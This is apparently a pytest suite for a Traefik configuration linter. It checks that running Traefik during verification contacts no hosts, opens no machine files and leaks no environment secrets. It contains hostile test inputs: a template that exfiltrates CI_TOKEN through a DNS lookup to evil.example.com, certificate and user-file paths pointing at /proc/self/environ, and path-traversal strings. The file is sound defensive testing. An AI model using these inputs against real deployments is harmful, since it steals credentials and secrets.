"""Traefik gets nothing of the machine that it runs on, and reaches nobody: shown by who would notice."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from functools import partial
from pathlib import Path

import pytest

from tests.traefik_versions import NEWEST, VERSIONS, traefik
from tests.verify.listening import Pipe, listener
from traefiklint.options import Options
from traefiklint.report import FORMATS
from traefiklint.verify import confine
from traefiklint.verify.binary import ask_version
from traefiklint.verify.guard import Protection
from traefiklint.verify.oracle import Oracle
from traefiklint.verify.verify import Verification, Verifier

SECRETS = {
    "DOKPLOY_API_KEY": "planted-key-471",
    "CI_TOKEN": "planted-token-472",
    "TRAEFIK_LOG_FILEPATH": "/planted-473",
}

SERVICE = "services: {s: {loadBalancer: {servers: [{url: 'http://127.0.0.1:1'}]}}}"
ROUTER = "routers: {r: {rule: 'Host(`a.example.com`)', service: s, middlewares: [m]}}"
HTTP_CHECK = (
    "http: {routers: {r: {rule: 'Host(`a.example.com`)', service: s}}, services: {s: {loadBalancer: "
    "{HEALTH: {path: /delete, method: POST, interval: 20ms}, servers: [{url: 'http://127.0.0.1:PORT'}]}}}}\n"
)
TCP_CHECK = (
    "tcp: {routers: {r: {rule: 'HostSNI(`*`)', service: s}}, services: {s: {loadBalancer: "
    "{HEALTH: {send: FLUSHALL, interval: 20ms}, servers: [{address: '127.0.0.1:PORT'}]}}}}\n"
)
REDIS = (
    f"http: {{{ROUTER}, {SERVICE}, middlewares: "
    "{m: {rateLimit: {average: 1, redis: {endpoints: ['127.0.0.1:PORT'], minIdleConns: 3}}}}}\n"
)
TOML_CHECK = """
[http.routers.r]
rule = "Host(`a.example.com`)"
service = "s"
[http.services.s.loadBalancer]
servers = [{url = "http://127.0.0.1:PORT"}]
[http.services.s.loadBalancer.healthCheck]
path = "/delete"
interval = "20ms"
"""
ANCHORED_CHECK = """
http:
  routers:
    r: {rule: 'Host(`a.example.com`)', service: s}
  services:
    base: &base
      loadBalancer: &balancer
        servers: &servers [{url: 'http://127.0.0.1:PORT'}]
        healthCheck: &check {path: /delete, interval: 20ms}
    s:
      <<: *base
    t:
      loadBalancer: {healthCheck: *check, servers: *servers, passHostHeader: false}
"""
CONTACTS = {
    "http.yml": HTTP_CHECK.replace("HEALTH", "healthCheck"),
    "case.yml": HTTP_CHECK.replace("HEALTH", "HEALTHCHECK").replace("servers", "SERVERS"),
    "twice.yml": HTTP_CHECK.replace("HEALTH", "healthcheck: {path: /}, healthCheck"),
    "tcp.yml": TCP_CHECK.replace("HEALTH", "healthCheck"),
    "redis.yml": REDIS,
    "toml.toml": TOML_CHECK,
    "anchors.yml": ANCHORED_CHECK,
    "template.yml": HTTP_CHECK.replace("{HEALTH", '{ {{ list "health" "Check" | join "" }}'),
    "template.toml": TOML_CHECK.replace("servers", '{{ lower "SERVERS" }}').replace("r]", "r]{{/* x */}}"),
    "blemish.yml": HTTP_CHECK.replace("HEALTH", "healthCheck").replace("PORT'", "PORT', weight: -1, wieght: 2"),
}


@pytest.fixture
def unconfined(monkeypatch: pytest.MonkeyPatch) -> None:
    """As on a system that can close nothing, so that only what Traefik is given protects."""
    monkeypatch.setattr("traefiklint.verify.verify.Oracle", partial(Oracle, confined=False))


def verify(name: str, text: str, seconds: float = 0, files_from: str = "", version: str = NEWEST) -> Verification:
    """The verification of one file, with the time that Traefik had to do something afterwards."""
    files = {name: text}
    with Verifier(traefik(version), Options(), [files], files_from) as verifier:
        done = verifier.verify(files)
        if seconds:
            time.sleep(seconds)
    return done


# Whom Traefik contacts


@pytest.mark.parametrize("name", CONTACTS)
def test_nobody_is_contacted_even_where_the_system_closes_nothing(unconfined: None, name: str) -> None:
    with listener() as ear:
        text = CONTACTS[name].replace("PORT", str(ear.port))
        done = verify(name, text, 0.5)
        assert done.verdict.loads or name == "blemish.yml" or name == "twice.yml", done.verdict
        assert ear.heard == []


@pytest.mark.parametrize("name", ["http.yml", "tcp.yml", "redis.yml", "toml.toml", "anchors.yml"])
def test_the_same_files_do_contact_somebody_where_they_are_given_as_they_are(name: str) -> None:
    with listener() as ear, Oracle(traefik(NEWEST), confined=False) as oracle:
        assert oracle.check({name: CONTACTS[name].replace("PORT", str(ear.port))}).loads
        assert ear.something.wait(20)


def test_the_system_lets_nobody_be_contacted_where_it_can(tmp_path: Path) -> None:
    with listener() as ear, Oracle(traefik(NEWEST)) as oracle:
        if not (oracle.protection.network or oracle.protection.connections):
            pytest.skip("this system lets nobody close the network")
        assert oracle.check({"a.yml": CONTACTS["http.yml"].replace("PORT", str(ear.port))}).loads
        time.sleep(0.5)
        assert ear.heard == []


@pytest.mark.parametrize("version", VERSIONS)
def test_in_its_namespace_traefik_sees_nothing_but_loopback(version: str) -> None:
    with Oracle(traefik(version)) as oracle:
        if not oracle.protection.network:
            pytest.skip("this system lets nobody make a network namespace")
        assert oracle.check({"a.yml": f"http: {{{SERVICE}}}"}).loads
        (pid,) = [
            entry.parent
            for entry in Path("/proc").glob("[0-9]*/cmdline")
            if f"--configFile={Path(oracle.directory).parent}" in entry.read_bytes().decode(errors="replace")
        ]
        lines = (pid / "net" / "dev").read_text().splitlines()[2:]
        assert [line.split(":")[0].strip() for line in lines] == ["lo"]


@pytest.mark.parametrize(
    ("text", "status"),
    [
        ("failover: {service: a, fallback: b}", "enabled"),
        ("weighted: {services: [{name: a}], healthCheck: {}}", "enabled"),
        ("weighted: {services: [{name: b}], healthCheck: {}}", "disabled"),
        ("failover: {service: b, fallback: a}", "disabled"),
    ],
)
def test_what_depends_on_health_checks_is_judged_as_before(text: str, status: str) -> None:
    whole = (
        "http: {routers: {r: {rule: 'Host(`a.example.com`)', service: s}}, services: {s: {" + text + "}, "
        "a: {loadBalancer: {healthCheck: {path: /}, servers: [{url: 'http://a'}]}}, "
        "b: {loadBalancer: {servers: [{url: 'http://b'}]}}}}\n"
    )
    done = verify("a.yml", whole)
    assert done.verdict.objects["services"]["s@file"].status == status
    assert done.disagreements == ()


@pytest.mark.parametrize("fault", ["interval: soon", "path: [{a: b}]", "intervall: 1s"])
def test_a_fault_in_a_health_check_is_still_refused(fault: str) -> None:
    done = verify("a.yml", CONTACTS["http.yml"].replace("interval: 20ms", fault))
    assert [finding.rule for finding in done.report.findings] == ["traefik-refuses"]
    assert done.disagreements == ()


def test_a_fault_in_a_server_with_a_health_check_is_still_seen() -> None:
    done = verify("a.yml", CONTACTS["http.yml"].replace("127.0.0.1:PORT", "a b"))
    assert [finding.rule for finding in done.report.findings] == ["traefik-disables"]
    assert done.disagreements == ()


# What Traefik reads


OPTIONS = {
    "users.yml": f"http: {{{ROUTER}, {SERVICE}, middlewares: {{m: {{basicAuth: {{usersFile: 'PATH'}}}}}}}}\n",
    "digest.yml": f"http: {{{ROUTER}, {SERVICE}, middlewares: {{m: {{digestAuth: {{USERSFILE: 'PATH'}}}}}}}}\n",
    "forward.yml": f"http: {{{ROUTER}, {SERVICE}, middlewares: {{m: {{forwardAuth: {{address: 'http://a', "
    "trustForwardHeader: false, maxResponseBodySize: 1, tls: {ca: PATH, cert: PATH, key: PATH}}}}}\n",
    "redis.yml": f"http: {{{ROUTER}, {SERVICE}, middlewares: {{m: {{rateLimit: {{average: 1, redis: {{tls: "
    "{ca: PATH, cert: PATH, key: PATH}}}}}}\n",
    "certificates.yml": "tls: {certificates: [{certFile: PATH, keyFile: PATH}]}\n",
    "store.yml": "tls:\n  stores:\n    default:\n      defaultCertificate:\n        certFile: PATH\n"
    "        keyFile: |\n          PATH\n",
    "clients.yml": "tls: {options: {o: {clientAuth: {caFiles: [PATH], clientAuthType: RequireAndVerifyClientCert}}}}\n",
    "transport.yml": "http: {serversTransports: {t: {rootCAs: PATH, certificates: "
    "[{certFile: PATH, keyFile: PATH}]}}}\n",
    "tcp.yml": "tcp: {serversTransports: {t: {tls: {rootCAs: [PATH, PATH], certificates: "
    "[{certFile: PATH, keyFile: PATH}]}}}}\n",
    "toml.toml": '[[tls.certificates]]\ncertFile = "PATH"\nkeyFile = """PATH"""\n',
    "several.yml": "tls: {certificates: [{certFile: PATH, keyFile: PATH}, {certFile: PATH2, keyFile: PATH2}]}\n",
    "anchor.yml": "tls: {certificates: [&one {certFile: &p PATH, keyFile: *p}, {<<: *one, certFile: PATH3}]}\n",
    "template.yml": 'tls: {certificates: [{{ "{" }}certFile: {{ printf "%s" "PATH" }}, keyFile: PATH}]}\n',
    "mixed.yml": "tls: {options: {o: {clientAuth: {caFiles: '-----BEGIN CERTIFICATE-----,PATH'}}}}\n",
}


@pytest.mark.parametrize("name", OPTIONS)
def test_no_file_of_the_machine_is_opened_even_where_the_system_closes_nothing(
    unconfined: None, tmp_path: Path, name: str
) -> None:
    with Pipe(tmp_path / "pipe").watched() as pipe:
        done = verify(name, OPTIONS[name].replace("PATH", str(pipe.path)))
        assert not pipe.opened.is_set()
    assert done.verdict.loads
    assert [finding.rule for finding in done.report.findings] == ["traefik-cannot-know"]
    assert str(pipe.path) in done.report.findings[0].message
    assert done.disagreements == ()


@pytest.mark.parametrize("name", ["users.yml", "certificates.yml", "toml.toml"])
def test_the_same_files_are_opened_where_they_are_given_as_they_are(tmp_path: Path, name: str) -> None:
    with Pipe(tmp_path / "pipe").watched() as pipe, Oracle(traefik(NEWEST), confined=False) as oracle:
        oracle.check({name: OPTIONS[name].replace("PATH", str(pipe.path))})
        assert pipe.opened.wait(20)


def test_the_system_lets_no_file_be_opened_where_it_can(tmp_path: Path) -> None:
    users = tmp_path / "users"
    users.write_text("a:b\n")
    with Oracle(traefik(NEWEST)) as oracle:
        if not oracle.protection.files:
            pytest.skip("this system cannot close files")
        verdict = oracle.check({"a.yml": OPTIONS["users.yml"].replace("PATH", str(users))})
        assert "permission denied" in str(verdict.objects["middlewares"]["m@file"].errors)


def test_what_a_file_holds_itself_stays(tmp_path: Path) -> None:
    pem = "-----BEGIN CERTIFICATE-----\\nAAAA\\n-----END CERTIFICATE-----\\n"
    text = f'tls: {{certificates: [{{certFile: "{pem}", keyFile: k}}]}}\n'
    rules = [finding.rule for finding in verify("a.yml", text).report.findings]
    assert "traefik-complains" in rules


def test_a_text_that_cannot_be_read_names_no_file(unconfined: None, tmp_path: Path) -> None:
    with Pipe(tmp_path / "pipe").watched() as pipe:
        text = OPTIONS["users.yml"].replace("PATH", str(pipe.path)) + "  a: [\n"
        done = verify("a.yml", text)
        assert not pipe.opened.is_set()
    assert {finding.rule for finding in done.report.findings} == {"traefik-refuses"}
    assert done.disagreements == ()


# Files that the user allows


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """What lies below, beside and behind links of a folder with the server's files."""
    found = tmp_path / "server"
    (found / "etc").mkdir(parents=True)
    (found / "etc" / "users").write_text("anna:$apr1$abc$defghijklmnopqrstuvwxyz\n")
    (found / "etc" / "bad").write_text("machine planted.example.com password planted-474\n")
    (tmp_path / "outside").write_text("anna:planted-475\n")
    (found / "link").symlink_to(tmp_path / "outside")
    (found / "inner").symlink_to("etc/users")
    (found / "folder").symlink_to(tmp_path)
    os.mkfifo(found / "pipe")
    return found


@pytest.mark.parametrize("path", ["/etc/users", "etc/users", "/inner", "WHOLE/etc/users", "/etc/../etc/users"])
def test_a_file_below_the_folder_is_used(folder: Path, path: str) -> None:
    text = OPTIONS["users.yml"].replace("PATH", path.replace("WHOLE", str(folder)))
    assert verify("a.yml", text, files_from=str(folder)).report.findings == ()


@pytest.mark.parametrize(
    "path",
    [
        "/link",
        "../outside",
        "/etc/../../outside",
        "/folder/outside",
        "/etc/passwd",
        "/pipe",
        "/etc",
        "/no",
        "WHOLE/../outside",
    ],
)
def test_a_file_elsewhere_is_not(folder: Path, path: str) -> None:
    text = OPTIONS["users.yml"].replace("PATH", path.replace("WHOLE", str(folder)))
    (finding,) = verify("a.yml", text, files_from=str(folder)).report.findings
    assert (finding.rule, finding.line) == ("traefik-cannot-know", 1)


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("users.yml", "`/etc/bad` cannot be read as a list of users"),
        ("digest.yml", "`/etc/bad` cannot be read as a list of digest users"),
        ("certificates.yml", "`/etc/bad` cannot be read as a certificate"),
        ("forward.yml", "`/etc/bad` cannot be read as a certificate"),
    ],
)
def test_a_bad_file_is_named_and_nothing_of_it_is_shown(folder: Path, name: str, words: str) -> None:
    done = verify(name, OPTIONS[name].replace("PATH", "/etc/bad"), files_from=str(folder))
    said = " ".join(f"{finding.message} {finding.help}" for finding in done.report.findings)
    assert words in said
    assert not any(piece in said for piece in ("machine", "planted", "474", "~traefiklint"))


# The environment


def test_the_version_is_asked_without_the_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    program = tmp_path / "traefik"
    program.write_text(f"#!/bin/sh\n/usr/bin/env > '{tmp_path}/env'\necho 'Version:      3.7.15'\n")
    program.chmod(0o755)
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    ask_version(str(program))
    seen = {line.partition("=")[0] for line in (tmp_path / "env").read_text().splitlines()}
    assert seen - {"PWD", "OLDPWD", "SHLVL", "_"} == {"PATH", "HOME", "TMPDIR"}


def test_templates_find_three_names_in_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    names = '"DOKPLOY_API_KEY" "CI_TOKEN" "PWD" "USER" "http_proxy"'
    text = f'# {{{{ range list {names} }}}}{{{{ env . }}}}{{{{ end }}}}{{{{ expandenv "$CI_TOKEN" }}}}.\n'
    with Oracle(traefik(NEWEST), rendered=True) as oracle:
        assert oracle.check({"a.yml": text}).rendered == {"a.yml": "# .\n"}
        home = oracle.check({"a.yml": '# {{ env "HOME" }} {{ env "TMPDIR" }}\n'}).rendered["a.yml"]
        assert home == f"# {Path(oracle.directory).parent} {Path(oracle.directory).parent}/work\n"


@pytest.mark.parametrize(
    "action",
    [
        '{{ getHostByName "localhost" }}',
        '{{ "localhost" | getHostByName }}',
        '{{ $a := printf "%s" (getHostByName "localhost") }}{{ $a }}',
        '{{ define "x" }}{{ getHostByName . }}{{ end }}{{ template "x" "localhost" }}',
        '{{- getHostByName "localhost" | trim -}}',
        '{{ if true }}{{ with getHostByName "localhost" }}{{ . }}{{ end }}{{ end }}',
    ],
)
def test_templates_ask_no_name_server(unconfined: None, action: str) -> None:
    router = ROUTER.replace("service: s", "service: gone")
    text = f"http: {{{SERVICE}, middlewares: {{m: {{ipAllowList: {{sourceRange: ['{action}']}}}}}}, {router}}}\n"
    done = verify("a.yml", text)
    said = [finding for finding in done.report.findings if finding.rule == "traefik-cannot-know"]
    assert [text[finding.column - 1 : finding.span.end_column - 1] for finding in said] == ["getHostByName"]
    assert "192.0.2.1" in said[0].message
    assert {finding.rule for finding in done.report.findings} == {"traefik-cannot-know", "traefik-disables"}


def test_a_word_in_a_text_is_not_a_question() -> None:
    text = f'# getHostByName env {{{{ "getHostByName env" }}}}\nhttp: {{{SERVICE}}}\n'
    assert verify("a.yml", text).report.findings == ()


def test_what_a_template_makes_is_not_a_template_again(unconfined: None) -> None:
    text = (
        'http: {middlewares: {m: {addPrefix: {prefix: \'/{{ "{{" }} getHostByName "localhost" }}\'}}}, '
        + f"{ROUTER}, {SERVICE}}}\n"
    )
    done = verify("a.yml", text)
    assert done.verdict.loads
    assert done.report.findings == ()


PLANTED = """
http:
  routers:
    r: {rule: 'Host(`a.example.com`)', service: 'nope{{ env "DOKPLOY_API_KEY" }}', middlewares: [m]}
    # {{ getHostByName (printf "%s.evil.example.com" (env "CI_TOKEN")) }}
  middlewares:
    m: {basicAuth: {usersFile: /proc/self/environ}}
tls:
  certificates:
    - {certFile: /proc/self/environ, keyFile: /proc/self/environ}
"""


def run(folder: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "traefiklint", "--verbose", "verify", "apps", *arguments],
        cwd=folder,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, **SECRETS, "NO_COLOR": "1"},
    )


@pytest.fixture
def apps(tmp_path: Path) -> Path:
    (tmp_path / "apps").mkdir()
    (tmp_path / "apps" / "a.yml").write_text(PLANTED)
    return tmp_path


def test_no_format_shows_anything_of_the_environment(apps: Path) -> None:
    formats = [word for name in FORMATS for word in ("--format", name, "--output", f"report.{name}")]
    done = run(apps, *formats, "--bug-report", "bug.md")
    assert done.returncode == 1
    written = [path.read_text() for path in apps.glob("report.*")]
    assert len(written) == len(FORMATS)
    for text in (done.stdout, done.stderr, *written, *(path.read_text() for path in apps.glob("bug.md"))):
        assert not any(secret in text for secret in SECRETS.values())


@pytest.mark.skipif(not shutil.which("strace"), reason="strace shows what a process asks of the system")
def test_the_system_is_asked_for_no_connection_and_no_file(apps: Path) -> None:
    trace = apps / "trace"
    done = subprocess.run(
        [
            "strace",
            "-f",
            "-s",
            "300",
            "-e",
            "trace=connect,sendto,openat,open",
            "-o",
            str(trace),
            sys.executable,
            "-m",
            "traefiklint",
            "verify",
            "apps",
        ],
        cwd=apps,
        capture_output=True,
        text=True,
        timeout=240,
        env={**os.environ, **SECRETS},
    )
    if "ptrace" in done.stderr.lower():
        pytest.skip("this system does not let strace look")
    lines = trace.read_text(errors="replace").splitlines()
    assert done.returncode == 1, done.stderr
    assert [line for line in lines if "AF_INET" in line and 'inet_addr("127.0.0.1")' not in line] == []
    assert [line for line in lines if "environ" in line or "evil.example" in line] == []


# What the report says


def test_the_report_says_what_was_closed(apps: Path) -> None:
    (apps / "apps" / "a.yml").write_text(f"http: {{{SERVICE}}}\n")
    with Oracle(traefik(NEWEST)) as oracle:
        protection = oracle.protection
    assert f"closed to it: {protection.words}\n" in run(apps).stdout
    told = json.loads(run(apps, "--format", "json").stdout)["verified"]
    assert told == {"traefik": NEWEST, "closed": protection.closed}


def test_where_the_system_closes_nothing_verify_works_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("traefiklint.verify.guard.sys.platform", "elsewhere")
    with Oracle(traefik(NEWEST)) as oracle:
        assert oracle.check({"a.yml": f"http: {{{SERVICE}}}"}).loads
        assert oracle.protection == Protection()
        assert oracle.protection.words == "nothing by the system itself"


def test_a_namespace_that_cannot_be_used_is_not_entered() -> None:
    class Refusing:
        def unshare(self, flags: int) -> int:
            return -1

    assert not confine._can_leave_network(Refusing())  # type: ignore[arg-type]
